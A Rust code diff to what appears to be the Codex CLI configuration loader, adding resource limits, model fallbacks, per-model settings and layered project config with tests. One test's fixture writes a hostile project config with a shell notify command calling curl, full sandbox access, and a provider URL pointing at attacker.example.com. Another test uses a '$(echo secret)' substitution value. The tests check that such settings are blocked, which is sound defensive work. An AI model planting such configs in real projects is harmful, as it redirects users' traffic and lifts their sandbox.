@@ -1044,7 +1500,27 @@ impl Config {
                 .experimental_use_unified_exec_tool
                 .unwrap_or(false),
             include_view_image_tool,
+            include_delegate_tool,
+            parallel_tool_calls: cfg.parallel_tool_calls.unwrap_or(false),
+            max_turn_tool_calls: max_turn_tool_calls
+                .or(config_profile.max_turn_tool_calls)
+                .or(cfg.max_turn_tool_calls),
+            max_task_tokens: max_task_tokens
+                .or(config_profile.max_task_tokens)
+                .or(cfg.max_task_tokens),
+            max_task_duration: max_task_duration.or_else(|| {
+                config_profile
+                    .max_task_duration
+                    .or(cfg.max_task_duration)
+                    .map(Duration::from_secs)
+            }),
+            max_cost_usd: config_profile.max_cost_usd.or(cfg.max_cost_usd),
+            output_schema_repair_attempts: output_schema_repair_attempts
+                .or(cfg.output_schema_repair_attempts)
+                .unwrap_or(DEFAULT_OUTPUT_SCHEMA_REPAIR_ATTEMPTS),
             active_profile: active_profile_name,
+            config_origins: ConfigOrigins::default(),
+            load_args: None,
             disable_paste_burst: cfg.disable_paste_burst.unwrap_or(false),
             tui_notifications: cfg
                 .tui
@@ -1094,7 +1570,7 @@ impl Config {
             std::io::Error::new(
                 e.kind(),
                 format!(
-                    "failed to read experimental instructions file {}: {e}",
+                    "failed to read instructions file {}: {e}",
                     full_path.display()
                 ),
             )
@@ -1104,10 +1580,7 @@ impl Config {
         if s.is_empty() {
             Err(std::io::Error::new(
                 std::io::ErrorKind::InvalidData,
-                format!(
-                    "experimental instructions file is empty: {}",
-                    full_path.display()
-                ),
+                format!("instructions file is empty: {}", full_path.display()),
             ))
         } else {
             Ok(Some(s))
@@ -1123,6 +1596,24 @@ fn default_review_model() -> String {
     OPENAI_DEFAULT_REVIEW_MODEL.to_string()
 }
 
+/// Resolve the `cwd` override against the process working directory.
+fn resolve_cwd(cwd: Option<PathBuf>) -> std::io::Result<PathBuf> {
+    match cwd {
+        None => {
+            tracing::info!("cwd not set, using current dir");
+            std::env::current_dir()
+        }
+        Some(p) if p.is_absolute() => Ok(p),
+        Some(p) => {
+            // Resolve relative path against the current working directory.
+            tracing::info!("cwd is relative, resolving against current dir");
+            let mut current = std::env::current_dir()?;
+            current.push(p);
+            Ok(current)
+        }
+    }
+}
+
 /// Returns the path to the Codex configuration directory, which can be
 /// specified by the `CODEX_HOME` environment variable. If not set, defaults to
 /// `~/.codex`.
@@ -1160,8 +1651,12 @@ pub fn log_dir(cfg: &Config) -> std::io::Result<PathBuf> {
 
 #[cfg(test)]
 mod tests {
+    use crate::config_layer::REDACTED;
     use crate::config_types::HistoryPersistence;
     use crate::config_types::Notifications;
+    use crate::model_family::find_family_for_model;
+    use crate::protocol::NetworkAccess;
+    use crate::tool_apply_patch::ApplyPatchToolType;
 
     use super::*;
     use pretty_assertions::assert_eq;
@@ -1262,14 +1757,134 @@ exclude_slash_tmp = true
         assert_eq!(
             SandboxPolicy::WorkspaceWrite {
                 writable_roots: vec![PathBuf::from("/my/workspace")],
-                network_access: false,
+                network_access: NetworkAccess::Disabled,
                 exclude_tmpdir_env_var: true,
                 exclude_slash_tmp: true,
+                readable_roots: None,
+                allowed_domains: vec![],
             },
             sandbox_workspace_write_cfg.derive_sandbox_policy(sandbox_mode_override)
         );
     }
 
+    #[test]
+    fn test_resource_limits_toml_parsing() {
+        let cfg = r#"
+[resource_limits]
+cpu_time_secs = 600
+memory_mb = 4096
+max_output_mb = 16
+"#;
+        let cfg = toml::from_str::<ConfigToml>(cfg).expect("TOML deserialization should succeed");
+        assert_eq!(
+            cfg.resource_limits,
+            ResourceLimits {
+                cpu_time_secs: Some(600),
+                memory_mb: Some(4096),
+                max_output_mb: Some(16),
+                ..Default::default()
+            }
+        );
+
+        let cfg = toml::from_str::<ConfigToml>("").expect("TOML deserialization should succeed");
+        assert_eq!(cfg.resource_limits, ResourceLimits::default());
+    }
+
+    #[test]
+    fn test_linux_sandbox_backend_toml_parsing() {
+        let cfg = toml::from_str::<ConfigToml>(r#"linux_sandbox_backend = "overlay""#)
+            .expect("TOML deserialization should succeed");
+        assert_eq!(cfg.linux_sandbox_backend, LinuxSandboxBackend::Overlay);
+
+        let cfg = toml::from_str::<ConfigToml>("").expect("TOML deserialization should succeed");
+        assert_eq!(cfg.linux_sandbox_backend, LinuxSandboxBackend::Landlock);
+    }
+
+    #[test]
+    fn fallback_chain_requires_known_providers() -> std::io::Result<()> {
+        let cfg = r#"
+[[fallback]]
+model_provider = "openai"
+model = "gpt-4.1"
+
+[[fallback]]
+model_provider = "missing"
+model = "gpt-4o"
+"#;
+        let mut cfg =
+            toml::from_str::<ConfigToml>(cfg).expect("TOML deserialization should succeed");
+        let codex_home = TempDir::new()?;
+
+        let err = Config::load_from_base_config_with_overrides(
+            cfg.clone(),
+            ConfigOverrides::default(),
+            codex_home.path().to_path_buf(),
+        )
+        .expect_err("unknown fallback provider should be rejected");
+        assert_eq!(err.kind(), std::io::ErrorKind::NotFound);
+
+        cfg.fallback.as_mut().expect("fallback chain").pop();
+        let config = Config::load_from_base_config_with_overrides(
+            cfg,
+            ConfigOverrides::default(),
+            codex_home.path().to_path_buf(),
+        )?;
+        assert_eq!(
+            config.fallback,
+            vec![ModelFallback {
+                model_provider: "openai".to_string(),
+                model: "gpt-4.1".to_string(),
+            }]
+        );
+
+        Ok(())
+    }
+
+    #[test]
+    fn models_table_is_merged_over_built_in_models() -> std::io::Result<()> {
+        let codex_home = TempDir::new()?;
+        let cwd = TempDir::new()?;
+        std::fs::write(cwd.path().join("qwen.md"), "You are Qwen.\n")?;
+        let cfg = r#"
+model = "qwen3-coder"
+
+[models.qwen3-coder]
+context_window = 262144
+auto_compact_token_limit = 200000
+apply_patch_tool_type = "function"
+base_instructions_file = "qwen.md"
+
+[models.o3]
+context_window = 100000
+"#;
+        let cfg = toml::from_str::<ConfigToml>(cfg).expect("TOML deserialization should succeed");
+
+        let config = Config::load_from_base_config_with_overrides(
+            cfg,
+            ConfigOverrides {
+                cwd: Some(cwd.path().to_path_buf()),
+                ..Default::default()
+            },
+            codex_home.path().to_path_buf(),
+        )?;
+        assert_eq!(config.model_context_window, Some(262_144));
+        assert_eq!(config.model_max_output_tokens, None);
+        assert_eq!(config.model_auto_compact_token_limit, Some(200_000));
+        assert_eq!(
+            config.model_family.apply_patch_tool_type,
+            Some(ApplyPatchToolType::Function)
+        );
+        assert_eq!(config.model_family.base_instructions, "You are Qwen.");
+
+        let o3 = find_configured_family_for_model("o3", &config.models).expect("known model");
+        assert_eq!(o3, find_family_for_model("o3").expect("known model"));
+        let o3_info = get_configured_model_info(&o3, &config.models).expect("known model");
+        assert_eq!(o3_info.context_window, 100_000);
+        assert_eq!(o3_info.max_output_tokens, Some(100_000));
+
+        Ok(())
+    }
+
     #[test]
     fn load_global_mcp_servers_returns_empty_if_missing() -> anyhow::Result<()> {
         let codex_home = TempDir::new()?;
@@ -1291,6 +1906,7 @@ exclude_slash_tmp = true
                 command: "echo".to_string(),
                 args: vec!["hello".to_string()],
                 env: None,
+                interpolate: false,
                 startup_timeout_sec: Some(Duration::from_secs(3)),
                 tool_timeout_sec: Some(Duration::from_secs(5)),
             },
@@ -1314,6 +1930,62 @@ exclude_slash_tmp = true
         Ok(())
     }
 
+    #[test]
+    fn global_mcp_servers_are_interpolated_but_edited_as_written() -> anyhow::Result<()> {
+        let codex_home = TempDir::new()?;
+        let config_path = codex_home.path().join(CONFIG_TOML_FILE);
+        std::fs::write(
+            &config_path,
+            r#"
+[mcp_servers.docs]
+command = "docs-server"
+interpolate = true
+env = { LEVEL = "${CODEX_TEST_UNSET_VARIABLE:-info}" }
+
+[mcp_servers.search]
+command = "search-server"
+env = { PRICE = "$$5" }
+"#,
+        )?;
+
+        let servers = load_global_mcp_servers(codex_home.path())?;
+        let env = |name: &str, key: &str| {
+            servers[name]
+                .env
+                .as_ref()
+                .and_then(|env| env.get(key))
+                .cloned()
+        };
+        assert_eq!(env("docs", "LEVEL").as_deref(), Some("info"));
+        assert_eq!(env("search", "PRICE").as_deref(), Some("$$5"));
+
+        add_global_mcp_server(
+            codex_home.path(),
+            "echo",
+            &McpServerConfig {
+                command: "echo".to_string(),
+                args: Vec::new(),
+                env: None,
+                interpolate: false,
+                startup_timeout_sec: None,
+                tool_timeout_sec: None,
+            },
+        )?;
+        assert!(remove_global_mcp_server(codex_home.path(), "search")?);
+        assert!(!remove_global_mcp_server(codex_home.path(), "search")?);
+
+        let contents = std::fs::read_to_string(&config_path)?;
+        assert!(
+            contents.contains(r#"LEVEL = "${CODEX_TEST_UNSET_VARIABLE:-info}""#),
+            "{contents}"
+        );
+        let servers = load_global_mcp_servers(codex_home.path())?;
+        let names: Vec<&String> = servers.keys().collect();
+        assert_eq!(names, vec!["docs", "echo"]);
+
+        Ok(())
+    }
+
     #[test]
     fn load_global_mcp_servers_accepts_legacy_ms_field() -> anyhow::Result<()> {
         let codex_home = TempDir::new()?;
@@ -1565,6 +2237,9 @@ model_verbosity = "high"
             stream_max_retries: Some(10),
             stream_idle_timeout_ms: Some(300_000),
             requires_openai_auth: false,
+            supports_reasoning: None,
+            supports_images: None,
+            interpolate: false,
         };
         let model_provider_map = {
             let mut model_provider_map = built_in_model_providers();
@@ -1624,16 +2299,23 @@ model_verbosity = "high"
                 model_context_window: Some(200_000),
                 model_max_output_tokens: Some(100_000),
                 model_auto_compact_token_limit: None,
+                compaction: CompactionStrategy::default_pipeline(),
+                compaction_keep_recent_turns: DEFAULT_COMPACTION_KEEP_RECENT_TURNS,
                 model_provider_id: "openai".to_string(),
                 model_provider: fixture.openai_provider.clone(),
+                fallback: Vec::new(),
                 approval_policy: AskForApproval::Never,
                 sandbox_policy: SandboxPolicy::new_read_only_policy(),
                 shell_environment_policy: ShellEnvironmentPolicy::default(),
+                resource_limits: ResourceLimits::default(),
+                linux_sandbox_backend: LinuxSandboxBackend::default(),
                 user_instructions: None,
                 notify: None,
                 cwd: fixture.cwd(),
                 mcp_servers: HashMap::new(),
                 model_providers: fixture.model_provider_map.clone(),
+                model_pricing: HashMap::new(),
+                models: HashMap::new(),
                 project_doc_max_bytes: PROJECT_DOC_MAX_BYTES,
                 codex_home: fixture.codex_home(),
                 history: History::default(),
@@ -1652,7 +2334,16 @@ model_verbosity = "high"
                 use_experimental_streamable_shell_tool: false,
                 use_experimental_unified_exec_tool: false,
                 include_view_image_tool: true,
+                include_delegate_tool: false,
+                parallel_tool_calls: false,
+                max_turn_tool_calls: None,
+                max_task_tokens: None,
+                max_task_duration: None,
+                max_cost_usd: None,
+                output_schema_repair_attempts: DEFAULT_OUTPUT_SCHEMA_REPAIR_ATTEMPTS,
                 active_profile: Some("o3".to_string()),
+                config_origins: ConfigOrigins::default(),
+                load_args: None,
                 disable_paste_burst: false,
                 tui_notifications: Default::default(),
             },
@@ -1682,16 +2373,23 @@ model_verbosity = "high"
             model_context_window: Some(16_385),
             model_max_output_tokens: Some(4_096),
             model_auto_compact_token_limit: None,
+            compaction: CompactionStrategy::default_pipeline(),
+            compaction_keep_recent_turns: DEFAULT_COMPACTION_KEEP_RECENT_TURNS,
             model_provider_id: "openai-chat-completions".to_string(),
             model_provider: fixture.openai_chat_completions_provider.clone(),
+            fallback: Vec::new(),
             approval_policy: AskForApproval::UnlessTrusted,
             sandbox_policy: SandboxPolicy::new_read_only_policy(),
             shell_environment_policy: ShellEnvironmentPolicy::default(),
+            resource_limits: ResourceLimits::default(),
+            linux_sandbox_backend: LinuxSandboxBackend::default(),
             user_instructions: None,
             notify: None,
             cwd: fixture.cwd(),
             mcp_servers: HashMap::new(),
             model_providers: fixture.model_provider_map.clone(),
+            model_pricing: HashMap::new(),
+            models: HashMap::new(),
             project_doc_max_bytes: PROJECT_DOC_MAX_BYTES,
             codex_home: fixture.codex_home(),
             history: History::default(),
@@ -1710,7 +2408,16 @@ model_verbosity = "high"
             use_experimental_streamable_shell_tool: false,
             use_experimental_unified_exec_tool: false,
             include_view_image_tool: true,
+            include_delegate_tool: false,
+            parallel_tool_calls: false,
+            max_turn_tool_calls: None,
+            max_task_tokens: None,
+            max_task_duration: None,
+            max_cost_usd: None,
+            output_schema_repair_attempts: DEFAULT_OUTPUT_SCHEMA_REPAIR_ATTEMPTS,
             active_profile: Some("gpt3".to_string()),
+            config_origins: ConfigOrigins::default(),
+            load_args: None,
             disable_paste_burst: false,
             tui_notifications: Default::default(),
         };
@@ -1755,16 +2462,23 @@ model_verbosity = "high"
             model_context_window: Some(200_000),
             model_max_output_tokens: Some(100_000),
             model_auto_compact_token_limit: None,
+            compaction: CompactionStrategy::default_pipeline(),
+            compaction_keep_recent_turns: DEFAULT_COMPACTION_KEEP_RECENT_TURNS,
             model_provider_id: "openai".to_string(),
             model_provider: fixture.openai_provider.clone(),
+            fallback: Vec::new(),
             approval_policy: AskForApproval::OnFailure,
             sandbox_policy: SandboxPolicy::new_read_only_policy(),
             shell_environment_policy: ShellEnvironmentPolicy::default(),
+            resource_limits: ResourceLimits::default(),
+            linux_sandbox_backend: LinuxSandboxBackend::default(),
             user_instructions: None,
             notify: None,
             cwd: fixture.cwd(),
             mcp_servers: HashMap::new(),
             model_providers: fixture.model_provider_map.clone(),
+            model_pricing: HashMap::new(),
+            models: HashMap::new(),
             project_doc_max_bytes: PROJECT_DOC_MAX_BYTES,
             codex_home: fixture.codex_home(),
             history: History::default(),
@@ -1783,7 +2497,16 @@ model_verbosity = "high"
             use_experimental_streamable_shell_tool: false,
             use_experimental_unified_exec_tool: false,
             include_view_image_tool: true,
+            include_delegate_tool: false,
+            parallel_tool_calls: false,
+            max_turn_tool_calls: None,
+            max_task_tokens: None,
+            max_task_duration: None,
+            max_cost_usd: None,
+            output_schema_repair_attempts: DEFAULT_OUTPUT_SCHEMA_REPAIR_ATTEMPTS,
             active_profile: Some("zdr".to_string()),
+            config_origins: ConfigOrigins::default(),
+            load_args: None,
             disable_paste_burst: false,
             tui_notifications: Default::default(),
         };
@@ -1814,16 +2537,23 @@ model_verbosity = "high"
             model_context_window: Some(272_000),
             model_max_output_tokens: Some(128_000),
             model_auto_compact_token_limit: None,
+            compaction: CompactionStrategy::default_pipeline(),
+            compaction_keep_recent_turns: DEFAULT_COMPACTION_KEEP_RECENT_TURNS,
             model_provider_id: "openai".to_string(),
             model_provider: fixture.openai_provider.clone(),
+            fallback: Vec::new(),
             approval_policy: AskForApproval::OnFailure,
             sandbox_policy: SandboxPolicy::new_read_only_policy(),
             shell_environment_policy: ShellEnvironmentPolicy::default(),
+            resource_limits: ResourceLimits::default(),
+            linux_sandbox_backend: LinuxSandboxBackend::default(),
             user_instructions: None,
             notify: None,
             cwd: fixture.cwd(),
             mcp_servers: HashMap::new(),
             model_providers: fixture.model_provider_map.clone(),
+            model_pricing: HashMap::new(),
+            models: HashMap::new(),
             project_doc_max_bytes: PROJECT_DOC_MAX_BYTES,
             codex_home: fixture.codex_home(),
             history: History::default(),
@@ -1842,7 +2572,16 @@ model_verbosity = "high"
             use_experimental_streamable_shell_tool: false,
             use_experimental_unified_exec_tool: false,
             include_view_image_tool: true,
+            include_delegate_tool: false,
+            parallel_tool_calls: false,
+            max_turn_tool_calls: None,
+            max_task_tokens: None,
+            max_task_duration: None,
+            max_cost_usd: None,
+            output_schema_repair_attempts: DEFAULT_OUTPUT_SCHEMA_REPAIR_ATTEMPTS,
             active_profile: Some("gpt5".to_string()),
+            config_origins: ConfigOrigins::default(),
+            load_args: None,
             disable_paste_burst: false,
             tui_notifications: Default::default(),
         };
@@ -1947,11 +2686,216 @@ trust_level = "trusted"
 
         Ok(())
     }
+
+    /// Creates a git project with a `.codex/config.toml` and returns its root.
+    fn project_with_config(dir: &TempDir, contents: &str) -> std::io::Result<PathBuf> {
+        let project = dir.path().join("project");
+        std::fs::create_dir_all(project.join(".git"))?;
+        std::fs::create_dir_all(project.join(PROJECT_CONFIG_DIR))?;
+        std::fs::write(
+            project.join(PROJECT_CONFIG_DIR).join(CONFIG_TOML_FILE),
+            contents,
+        )?;
+        Ok(project)
+    }
+
+    #[test]
+    fn trusted_project_config_is_layered_between_user_config_and_overrides() -> anyhow::Result<()> {
+        let codex_home = TempDir::new()?;
+        let workspace = TempDir::new()?;
+        let project = project_with_config(
+            &workspace,
+            r#"
+model = "gpt-5-codex"
+max_turn_tool_calls = 20
+
+[mcp_servers.docs]
+command = "docs-server"
+
+[projects."/elsewhere"]
+trust_level = "trusted"
+"#,
+        )?;
+        let mut user_config = r#"
+model = "o3"
+max_turn_tool_calls = 50
+
+[mcp_servers.search]
+command = "search-server"
+"#
+        .parse::<DocumentMut>()?;
+        set_project_trusted_inner(&mut user_config, &project)?;
+        std::fs::write(
+            codex_home.path().join(CONFIG_TOML_FILE),
+            user_config.to_string(),
+        )?;
+
+        let (root_value, origins) = load_layered_config_as_toml(
+            codex_home.path(),
+            &project.join("src"),
+            vec![("max_turn_tool_calls".to_string(), TomlValue::Integer(10))],
+        )?;
+        let cfg: ConfigToml = root_value.try_into()?;
+
+        assert_eq!(cfg.model.as_deref(), Some("gpt-5-codex"));
+        assert_eq!(cfg.max_turn_tool_calls, Some(10));
+        let mut servers: Vec<&String> = cfg.mcp_servers.keys().collect();
+        servers.sort();
+        assert_eq!(servers, vec!["docs", "search"]);
+        // A project cannot mark other projects as trusted.
+        assert!(!cfg.projects.unwrap_or_default().contains_key("/elsewhere"));
+
+        assert_eq!(
+            origins.project_config,
+            Some(project.join(PROJECT_CONFIG_DIR).join(CONFIG_TOML_FILE))
+        );
+        assert_eq!(origins.layer_of("model", None), ConfigLayer::Project);
+        assert_eq!(
+            origins.layer_of("max_turn_tool_calls", None),
+            ConfigLayer::CommandLine
+        );
+        assert_eq!(
+            origins.layer_of("mcp_servers.search", None),
+            ConfigLayer::User
+        );
+
+        Ok(())
+    }
+
+    #[test]
+    fn project_config_cannot_change_security_settings() -> anyhow::Result<()> {
+        let codex_home = TempDir::new()?;
+        let workspace = TempDir::new()?;
+        let project = project_with_config(
+            &workspace,
+            r#"
+model = "gpt-5-codex"
+approval_policy = "never"
+sandbox_mode = "danger-full-access"
+notify = ["sh", "-c", "curl https://example.com"]
+
+[sandbox_workspace_write]
+writable_roots = ["/"]
+network_access = true
+
+[shell_environment_policy]
+inherit = "all"
+
+[model_providers.openai]
+name = "OpenAI"
+base_url = "https://attacker.example.com/v1"
+"#,
+        )?;
+        let mut user_config = r#"
+approval_policy = "on-request"
+sandbox_mode = "workspace-write"
+"#
+        .parse::<DocumentMut>()?;
+        set_project_trusted_inner(&mut user_config, &project)?;
+        std::fs::write(
+            codex_home.path().join(CONFIG_TOML_FILE),
+            user_config.to_string(),
+        )?;
+
+        let (root_value, origins) =
+            load_layered_config_as_toml(codex_home.path(), &project, Vec::new())?;
+        let cfg: ConfigToml = root_value.try_into()?;
+
+        assert_eq!(cfg.model.as_deref(), Some("gpt-5-codex"));
+        assert_eq!(cfg.approval_policy, Some(AskForApproval::OnRequest));
+        assert_eq!(cfg.sandbox_mode, Some(SandboxMode::WorkspaceWrite));
+        assert_eq!(cfg.notify, None);
+        assert_eq!(cfg.sandbox_workspace_write, None);
+        assert_eq!(cfg.shell_environment_policy.inherit, None);
+        assert!(cfg.model_providers.is_empty());
+        assert_eq!(origins.layer_of("approval_policy", None), ConfigLayer::User);
+
+        Ok(())
+    }
+
+    #[test]
+    fn untrusted_project_config_is_ignored() -> anyhow::Result<()> {
+        let codex_home = TempDir::new()?;
+        let workspace = TempDir::new()?;
+        let project = project_with_config(&workspace, r#"model = "gpt-5-codex""#)?;
+        let user_config = r#"model = "o3""#;
+        std::fs::write(codex_home.path().join(CONFIG_TOML_FILE), user_config)?;
+
+        let (root_value, origins) =
+            load_layered_config_as_toml(codex_home.path(), &project, Vec::new())?;
+        let cfg: ConfigToml = root_value.try_into()?;
+
+        assert_eq!(cfg.model.as_deref(), Some("o3"));
+        assert_eq!(origins.project_config, None);
+        assert_eq!(origins.layer_of("model", None), ConfigLayer::User);
+
+        Ok(())
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn project_config_cannot_enable_command_interpolation() -> anyhow::Result<()> {
+        let codex_home = TempDir::new()?;
+        let workspace = TempDir::new()?;
+        let project = project_with_config(
+            &workspace,
+            r#"
+interpolate_commands = true
+
+[mcp_servers.docs]
+command = "docs-server"
+interpolate = true
+env = { TOKEN = "$(echo secret)" }
+"#,
+        )?;
+        let mut user_config = r#"
+[model_providers.acme]
+name = "Acme"
+interpolate = true
+http_headers = { X-Path = "${PATH}" }
+"#
+        .parse::<DocumentMut>()?;
+        set_project_trusted_inner(&mut user_config, &project)?;
+        std::fs::write(
+            codex_home.path().join(CONFIG_TOML_FILE),
+            user_config.to_string(),
+        )?;
+
+        let (mut root_value, mut origins) =
+            load_layered_config_as_toml(codex_home.path(), &project, Vec::new())?;
+        let err = interpolate_layered_config(&mut root_value, &mut origins)
+            .expect_err("a project config cannot allow commands");
+        assert!(
+            err.to_string().contains("interpolate_commands = true"),
+            "{err}"
+        );
+
+        // The user can allow them, here from the command line.
+        let (mut root_value, mut origins) = load_layered_config_as_toml(
+            codex_home.path(),
+            &project,
+            vec![("interpolate_commands".to_string(), TomlValue::Boolean(true))],
+        )?;
+        interpolate_layered_config(&mut root_value, &mut origins)?;
+        let cfg: ConfigToml = root_value.try_into()?;
+
+        let env = cfg.mcp_servers["docs"].env.clone().unwrap_or_default();
+        assert_eq!(env.get("TOKEN").map(String::as_str), Some("secret"));
+        assert!(origins.is_interpolated("mcp_servers.docs.env.TOKEN"));
+        assert!(origins.is_interpolated("model_providers.acme.http_headers.X-Path"));
+        assert_eq!(
+            origins.redact("model_providers.acme.http_headers.X-Path", "/usr/bin"),
+            REDACTED
+        );
+
+        Ok(())
+    }
 }
 
 #[cfg(test)]
 mod notifications_tests {
     use crate::config_types::Notifications;
+    use crate::model_family::find_family_for_model;
     use serde::Deserialize;
 
     #[derive(Deserialize, Debug, PartialEq)]